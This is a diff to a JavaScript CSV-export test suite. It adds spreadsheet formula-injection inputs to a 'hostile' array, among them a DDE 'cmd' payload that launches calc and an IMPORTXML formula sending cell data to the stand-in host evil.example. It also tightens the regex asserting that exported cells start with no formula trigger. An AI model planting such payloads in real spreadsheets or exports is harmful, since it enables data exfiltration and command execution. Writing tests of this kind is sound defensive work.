@@ -12,6 +12,13 @@ const hostile = [
   "+1+cmd|' /C calc'!A0",
   "@SUM(A1)",
   "\t=1+1",
+  "\u200b=1+1",
+  "\ufeff\u0000=1+1",
+  "\uff1d1+1",
+  "\uff20SUM(A1)",
+  "\r\n=1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
   "abc\u202egpj.exe",
   "a\u200bb\u2066c\u2069",
   "lone \ud800 surrogate",
@@ -72,7 +79,7 @@ describe("CSV", () => {
         row.forEach((cell, at) => {
           const sent = cells[at]?.toWellFormed();
           expect([sent, `'${sent}`]).toContain(cell);
-          expect(cell).not.toMatch(/^\s*[=+@|%]/);
+          expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+@|%\uff1d\uff0b\uff0d\uff20]/u);
         });
       }),
     );
